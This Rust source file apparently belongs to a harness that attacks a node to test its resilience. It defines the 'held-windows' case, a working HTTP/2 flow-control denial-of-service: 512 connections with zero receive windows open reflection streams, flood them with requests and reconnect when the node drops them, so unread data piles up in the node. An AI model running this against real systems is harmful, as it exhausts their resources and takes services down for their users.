//! Full receive windows. The attacker has as many connections at the client port as one address
//! may have. On each it opens streams of reflection, says that it has no window for the answers,
//! and sends questions until the node takes no more. The node waits with its answers, so it does
//! not read on, and what has arrived waits in HTTP/2, where no service counts it.

use anyhow::Result;
use tonic::codegen::Bytes;

use super::super::case::{Case, Role, Target};
use super::super::wire::Caller;
use super::reflection;

/// Connections: as many as one address may have, an eighth of the port's places.
const CONNECTIONS: usize = 512;
/// Streams on each. Two of them fill the window of a connection of 1 MiB.
const STREAMS: usize = 4;
/// Bytes of questions that wait to be sent on each stream.
const QUESTIONS_BYTES: usize = 1 << 20;

pub(crate) const CASE: Case = Case {
    name: "held-windows",
    does: "fills the receive windows of 512 connections with questions whose answers it does not take",
    role: Role::Follower,
    attack: |target| Box::pin(attack(target)),
    ..Case::PLAIN
};

async fn attack(target: Target) -> Result<()> {
    let question = reflection::question();
    let questions: Bytes = question.repeat(QUESTIONS_BYTES / question.len()).into();
    target.together(CONNECTIONS, move |target, _| fill(target, questions.clone())).await
}

async fn fill(target: Target, questions: Bytes) -> Result<()> {
    let caller = Caller::connect_with_window(&target, &target.clients, 0).await?;
    let mut open = Vec::new();
    for _ in 0..STREAMS {
        let (response, mut sending) = caller.open(reflection::PATH).await?;
        // It goes out as far as the node's windows allow.
        sending.send_data(questions.clone(), false)?;
        target.count("streams with full windows", 1);
        open.push((response, sending));
    }
    // Until the node ends them: then come again.
    caller.keep_open(open).await
}
